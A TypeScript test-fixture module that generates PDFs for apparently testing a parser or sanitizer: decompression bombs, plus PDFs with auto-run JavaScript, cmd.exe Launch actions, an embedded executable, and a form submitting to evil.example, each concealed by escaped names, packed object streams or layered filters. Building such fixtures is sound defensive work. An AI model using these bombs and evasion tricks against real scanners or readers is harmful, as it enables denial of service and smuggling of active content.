import { deflateSync } from 'node:zlib';

type Part = string | Buffer;
const bytesOf = (part: Part): Buffer => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part);

export const pdfStream = (entries: string, data: Part): Buffer =>
  Buffer.concat([`<< ${entries} /Length ${bytesOf(data).length} >>\nstream\n`, data, '\nendstream'].map(bytesOf));

export const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
export const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
export const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>';

/** Numbered objects with a correct table; the first is the catalog. */
export const pdfOf = (objects: readonly Part[], trailer = ''): Buffer => {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const places: number[] = [];
  let length = parts[0]?.length ?? 0;
  const add = (part: Part): void => {
    const bytes = bytesOf(part);
    parts.push(bytes);
    length += bytes.length;
  };
  for (const [at, object] of objects.entries()) {
    places.push(length);
    add(`${at + 1} 0 obj\n`);
    add(object);
    add('\nendobj\n');
  }
  const start = length;
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  add(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`);
  add(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`);
  return Buffer.concat(parts);
};

const bigEndian = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** Objects 1 to 3 and 5 are packed into object 4; object 6 is the table. `packing` tells how. */
export const packedPdf = (
  packed: readonly string[],
  { entries = '/Type /ObjStm', filter = '/Filter /FlateDecode', pack = deflateSync as (data: Buffer) => Buffer } = {},
): Buffer => {
  const starts = packed.map((_, at) => packed.slice(0, at).join('\n').length + Number(at > 0));
  const numbers = packed.map((_, at) => (at < 3 ? at + 1 : at + 4));
  const head = `${numbers.map((number, at) => `${number} ${starts[at]}`).join(' ')}\n`;
  const data = pack(Buffer.from(head + packed.join('\n'), 'latin1'));
  const start = '%PDF-1.7\n';
  const objects = Buffer.concat([
    Buffer.from('4 0 obj\n'),
    pdfStream(`${entries} /N ${packed.length} /First ${head.length} ${filter}`, data),
    Buffer.from('\nendobj\n'),
  ]);
  const tableAt = start.length + objects.length;
  const highest = Math.max(6, ...numbers);
  const rows = Array.from({ length: highest + 1 }, (_, number) => {
    const place = numbers.indexOf(number);
    if (place >= 0) return Buffer.concat([Buffer.from([2]), bigEndian(4), Buffer.from([place])]);
    const at = number === 4 ? start.length : number === 6 ? tableAt : null;
    return Buffer.concat([Buffer.from([at === null ? 0 : 1]), bigEndian(at ?? 0), Buffer.from([0])]);
  });
  const table = pdfStream(
    `/Type /XRef /W [1 4 1] /Size ${highest + 1} /Root 1 0 R /Filter /FlateDecode`,
    deflateSync(Buffer.concat(rows)),
  );
  return Buffer.concat([
    Buffer.from(start),
    objects,
    Buffer.from('6 0 obj\n'),
    table,
    Buffer.from(`\nendobj\nstartxref\n${tableAt}\n%%EOF\n`),
  ]);
};

/** A table of nothing but zeros, which a parser expands entry by entry. */
export const tableBomb = (entries: number, width = 3): Buffer => {
  const start = Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n${CATALOG}\nendobj\n2 0 obj\n${PAGES}\nendobj\n3 0 obj\n${PAGE}\nendobj\n`),
  ]);
  const widths = Array.from({ length: 3 }, (_, at) => (at < width ? 1 : 0)).join(' ');
  const data = deflateSync(Buffer.alloc(entries * width), { level: 1 });
  const table = pdfStream(`/Type /XRef /W [${widths}] /Size ${entries} /Root 1 0 R /Filter /FlateDecode`, data);
  const tail = `\nendobj\nstartxref\n${start.length}\n%%EOF\n`;
  return Buffer.concat([start, Buffer.from('4 0 obj\n'), table, Buffer.from(tail)]);
};

/** A packed stream that grows to this many bytes. */
export const packedBomb = (bytes: number, fill = ' '): Buffer =>
  packedPdf([CATALOG, PAGES, PAGE, `[${fill.repeat(bytes)}]`]);

export const repeatedObject = (bytes: number): Buffer =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('1 0 obj\n'.repeat(bytes / 8)), Buffer.from('%%EOF\n')]);

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const withCatalog = (entries: string, ...more: Part[]): Buffer =>
  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, PAGES, PAGE, ...more]);
const withNote = (note: string, ...more: Part[]): Buffer =>
  pdfOf([
    CATALOG,
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>',
    `<< /Type /Annot /Rect [0 0 99 99] ${note} >>`,
    ...more,
  ]);
const packedScript = (script: string, options = {}): Buffer =>
  packedPdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>', PAGES, PAGE, script], options);
const FILE = '<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>';
const PROGRAM = pdfStream('/Type /EmbeddedFile', 'MZ program');

/** The plainest of them. */
export const scriptedPdf = (): Buffer => withCatalog(`/OpenAction ${SCRIPT}`);

/** PDFs that run something, send something or carry a file, each hidden in another way. */
export const activePdfs = (): Record<string, Buffer> => ({
  'script on opening': scriptedPdf(),
  'script on opening, elsewhere': withCatalog('/OpenAction 4 0 R', SCRIPT),
  'script of the document': withCatalog(`/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>`),
  'script on closing': withCatalog(`/AA << /WC ${SCRIPT} >>`),
  'script with an escaped name': withCatalog('/OpenAction << /S /J#61v#61Script /JS (1) >>'),
  'script with every letter escaped': withCatalog(
    `/OpenAction << /S /${[...'JavaScript'].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join('')} /JS (1) >>`,
  ),
  'script whose kind is another object': withCatalog('/OpenAction << /S 4 0 R /JS (1) >>', '/JavaScript'),
  'script behind an open string': withCatalog('/OpenAction 5 0 R', '(never closed', SCRIPT),
  'script behind a comment': withCatalog('/OpenAction 4 0 R', '<< % 9 0 obj (\n/S /JavaScript /JS (1) >>'),
  'script in packed objects': packedScript(SCRIPT),
  'script in packed objects, escaped': packedScript('<< /S /#4AavaScript /JS (1) >>'),
  'script in packed objects of no type': packedScript(SCRIPT, { entries: '' }),
  'script in packed objects behind an open string': packedPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R >>',
    PAGES,
    PAGE,
    '(never closed',
    SCRIPT,
  ]),
  'script in objects packed in hexadecimal': packedScript(SCRIPT, {
    filter: '/Filter /ASCIIHexDecode',
    pack: (data: Buffer) => Buffer.from(`${data.toString('hex')}>`),
  }),
  'script in objects packed twice': packedScript(SCRIPT, {
    filter: '/Filter [/FlateDecode /FlateDecode]',
    pack: (data: Buffer) => deflateSync(deflateSync(data)),
  }),
  'script of a page': pdfOf([
    CATALOG,
    PAGES,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O ${SCRIPT} >> >>`,
  ]),
  'program started by a link': withNote('/Subtype /Link /A << /S /Launch /F (cmd.exe) >>'),
  'program started on opening': withCatalog('/OpenAction << /S /L#61unch /Win << /F (cmd.exe) >> >>'),
  'program attached': withCatalog('/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>', '<<>>', FILE, PROGRAM),
  'program attached to a page': withNote('/Subtype /FileAttachment /FS 5 0 R', FILE, PROGRAM),
  'program attached by name only': withNote('/Subtype /Text', FILE, PROGRAM),
  'form that sends': withNote('/Subtype /Widget /FT /Btn /T (a) /A << /S /SubmitForm /F (https://evil.example) >>'),
  'form that takes in': withNote('/Subtype /Widget /FT /Btn /T (a) /A << /S /ImportData /F (c:/secret.fdf) >>'),
  'form of another kind': withCatalog('/AcroForm << /XFA 4 0 R /Fields [] >>', pdfStream('', '<xdp/>')),
  'film with a player': withNote('/Subtype /RichMedia /RichMediaContent << >>'),
  'film with a script': withNote('/Subtype /Screen /A << /S /Rendition /JS (1) >>'),
  'way into an attachment': withCatalog('/OpenAction << /S /GoToE /F (a.pdf) >>'),
});
